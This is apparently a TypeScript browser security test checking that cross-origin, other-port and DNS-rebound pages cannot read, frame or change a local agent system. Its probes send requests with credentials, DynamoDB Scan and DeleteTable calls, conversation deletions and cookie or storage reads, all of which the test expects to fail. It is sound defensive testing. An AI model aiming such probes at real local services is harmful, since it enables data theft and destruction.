import { readdir, readFile, readlink, realpath } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { type Browser, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { gitIn } from "#src/publishing/git/command.ts";
import { gitIdentity } from "#src/publishing/git/commit.ts";
import { branches, git } from "./support/repository.ts";

/** Resolved to this machine, as a name whose owner rebinds it. */
const EVIL = "evil.example";

/** Made-up credentials: the engine asks for some, and takes any. */
const SIGNED = {
  authorization:
    "AWS4-HMAC-SHA256 Credential=x/20261125/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=x",
  "x-amz-date": "20261125T000000Z",
};

let browser: Browser;
let elsewhere: Server;
let port: number;

beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: process.env["CHROMIUM"] ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", `--host-resolver-rules=MAP ${EVIL} 127.0.0.1`],
  });
  elsewhere = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>elsewhere</title>");
  });
  elsewhere.listen(0, "127.0.0.1");
  await once(elsewhere, "listening");
  ({ port } = elsewhere.address() as AddressInfo);
});
afterAll(async () => {
  await browser?.close();
  elsewhere.close();
});

interface Try {
  method: string;
  url: string;
  headers?: Record<string, string>;
  body?: string;
}

const table = (action: string, body: object): Omit<Try, "url"> => ({
  method: "POST",
  headers: {
    ...SIGNED,
    "x-amz-target": `DynamoDB_20120810.${action}`,
    "content-type": "application/x-amz-json-1.0",
  },
  body: JSON.stringify(body),
});

/** Everything that a page could want of the running system, at every port that the system listens on. */
async function tries(): Promise<Try[]> {
  const front = inject("url");
  const base = (await git(inject("repository"), "rev-parse", "main")).trim();
  const action = { do: "command", name: "ux-update", options: { description: "say Gone" }, attachments: {} };
  const invoke = { method: "POST", body: '{"Records":[]}' };
  const everywhere = (await listening()).flatMap((address) => [
    { method: "GET", url: `${address}/` },
    { method: "GET", url: `${address}/admin/users/210000000000000001/conversations` },
    { method: "DELETE", url: `${address}/admin/users/210000000000000001/conversations` },
    { ...invoke, url: `${address}/2015-03-31/functions/ux-agent-local-execution/invocations` },
    { ...table("ListTables", {}), url: `${address}/` },
    { ...table("Scan", { TableName: "ux-agent-conversations" }), url: `${address}/` },
    { ...table("DeleteTable", { TableName: "ux-agent-conversations" }), url: `${address}/` },
  ]);
  const atFront = [
    { method: "GET", url: "/console" },
    { method: "GET", url: "/playground/setting" },
    { method: "GET", url: "/playground/conversations/1" },
    { method: "GET", url: `/playground/commits/${base}` },
    { method: "GET", url: `/playground/pages/${base}` },
    { method: "GET", url: "/discord/channel" },
    { method: "GET", url: "/assets/channel.js" },
    {
      method: "POST",
      url: "/playground/actions",
      body: JSON.stringify({ by: "210000000000000001", action }),
    },
    { method: "POST", url: "/playground/faults/stream" },
    { method: "POST", url: "/playground/faults/execution" },
    { method: "PATCH", url: "/discord/api/v10/channels/1/messages/1", body: "{}" },
  ].map((each) => ({ ...each, url: front + each.url }));
  return [...everywhere, ...atFront];
}

/** The addresses at which this test run's processes listen, but for those that no page can name. */
async function listening(): Promise<string[]> {
  const inodes = new Set(await socketsOf(await processes()));
  const lines = (await readFile("/proc/net/tcp", "utf8"))
    .split("\n")
    .slice(1)
    .map((line) => line.trim().split(/\s+/));
  return lines.flatMap(([, local = "", , state, , , , , , inode = ""]) => {
    const [host, hex = ""] = local.split(":");
    const found = Number.parseInt(hex, 16);
    if (state !== "0A" || !inodes.has(inode) || found === port) return [];
    return host === "0100007F" || host === "00000000"
      ? [`http://127.0.0.1:${found}`, `http://localhost:${found}`]
      : [`http://127.0.0.1:${found}`];
  });
}

/** The test runner, which runs the system, and all below it but the browser. */
async function processes(): Promise<string[]> {
  const all = (await readdir("/proc")).filter((name) => /^\d+$/.test(name));
  const parents = new Map(
    await Promise.all(
      all.map(async (pid) => {
        const stat = await readFile(`/proc/${pid}/stat`, "utf8").catch(() => "");
        return [pid, stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1] ?? ""] as const;
      }),
    ),
  );
  const below = (pid: string): boolean => {
    for (let at: string | undefined = pid; at && at !== "1"; at = parents.get(at))
      if (at === String(process.ppid)) return true;
    return false;
  };
  return all.filter(below);
}

async function socketsOf(pids: string[]): Promise<string[]> {
  const links = await Promise.all(
    pids.map(async (pid) => {
      const files = await readdir(`/proc/${pid}/fd`).catch(() => []);
      return Promise.all(files.map((file) => readlink(`/proc/${pid}/fd/${file}`).catch(() => "")));
    }),
  );
  return links.flat().flatMap((link) => /^socket:\[(\d+)\]$/.exec(link)?.[1] ?? []);
}

/** Runs in the page: what it could read of each answer, having tried with and without a preflight. */
async function attack(asked: Try[]): Promise<string[]> {
  const got: string[] = [];
  for (const { method, url, headers, body } of asked) {
    const request = { method, ...(headers && { headers }), ...(body && { body }) };
    for (const credentials of ["omit", "include"] as const) {
      const read = await fetch(url, { ...request, credentials }).then(
        (answer) => answer.text(),
        () => null,
      );
      if (read !== null) got.push(`${method} ${url}: ${read.slice(0, 60)}`);
    }
    const simple = { ...request, headers: {}, mode: "no-cors" as const };
    if (method === "GET" || method === "POST") await fetch(url, simple).catch(() => null);
  }
  return got;
}

describe.each([
  ["another origin", () => `http://${EVIL}:${port}/`],
  ["another port of this machine", () => `http://127.0.0.1:${port}/`],
  ["another port of localhost", () => `http://localhost:${port}/`],
])("a page of %s", (_, address) => {
  it("reads nothing of a running system and does nothing in it", async () => {
    const before = await state();
    const page = await browser.newPage();
    await page.goto(address());
    const asked = await tries();
    expect(asked.length).toBeGreaterThan(20);
    expect(await page.evaluate(attack, asked)).toEqual([]);
    expect(await state()).toEqual(before);
    await page.close();
  });

  it("cannot frame it, nor show what it would show", async () => {
    const page = await browser.newPage();
    await page.goto(address());
    const front = inject("url");
    const base = (await git(inject("repository"), "rev-parse", "main")).trim();
    const answered: number[] = [];
    page.on("response", (response) => response.url().startsWith(front) && answered.push(response.status()));
    const frames = ["/", "/console", `/playground/pages/${base}`].map(
      (path) => `<iframe src="${front}${path}"></iframe>`,
    );
    const others = `<img src="${front}/playground/pages/${base}"><script src="${front}/assets/channel.js"></script>`;
    await page.setContent(frames.join("") + others, { waitUntil: "networkidle" });
    // Of the picture and the script the browser tells nothing: it does not even open what comes back for them.
    expect(answered.length).toBeGreaterThanOrEqual(frames.length);
    expect(new Set(answered)).toEqual(new Set([403]));
    await page.close();
  });
});

it("a name that is rebound to this machine reaches nothing either", async () => {
  const page = await browser.newPage();
  const answer = await page.goto(`http://${EVIL}:${new URL(inject("url")).port}/discord/channel`);
  expect(answer?.status()).toBe(403);
  await page.close();
});

/** A page that says in its title what it reached. */
const greedyPage = (urls: string[]): string => `<!doctype html><body><script>
  const reached = (what, act) => Promise.resolve().then(act).then(() => what, () => null);
  const picture = (src) => new Promise((onload, onerror) => Object.assign(new Image(), { onload, onerror, src }));
  const tries = ${JSON.stringify(urls)}.flatMap((url) => [
    reached("fetch " + url, () => fetch(url)),
    reached("send " + url, () => fetch(url, { method: "POST", mode: "no-cors" })),
    reached("import " + url, () => import(url)),
    reached("picture " + url, () => picture(url)),
  ]);
  tries.push(reached("storage", () => localStorage.length), reached("cookies", () => document.cookie));
  Promise.all(tries).then((all) => (document.title = JSON.stringify(all.filter(Boolean))));
</script>`;

it("the site's own page runs, and reaches neither the playground nor any other server", async () => {
  const urls = [
    `${inject("url")}/playground/setting`,
    `http://127.0.0.1:${port}/`,
    `http://${EVIL}:${port}/`,
  ];
  const commit = await commitPage(greedyPage(urls));
  const page = await browser.newPage();
  const answered: string[] = [];
  page.on("response", (response) => answered.push(response.url()));
  const address = `${inject("url")}/playground/pages/${commit}`;
  await page.goto(address);
  await expect.poll(() => page.title()).toBe("[]");
  expect(answered).toEqual([address]);
  await page.close();
});

/** A commit in the site's repository that holds one page, on no branch. */
async function commitPage(html: string): Promise<string> {
  const run = gitIn(await realpath(inject("repository")));
  const line = async (args: string[], input = "") =>
    (await run(args, { input, env: gitIdentity })).toString().trim();
  const blob = await line(["hash-object", "-w", "--stdin"], html);
  const tree = await line(["mktree"], `100644 blob ${blob}\tindex.html\n`);
  return line(["commit-tree", tree, "-m", "a page"]);
}

/** What an action, a fault or an erasure would change. */
async function state() {
  const front = inject("url");
  const [channel, listed] = await Promise.all(
    ["/discord/channel", "/admin/users/210000000000000001/conversations"].map(async (path) => {
      const answer = await fetch(front + path);
      return [answer.status, await answer.json()] as unknown;
    }),
  );
  return { channel, listed, branches: await branches(inject("repository")) };
}
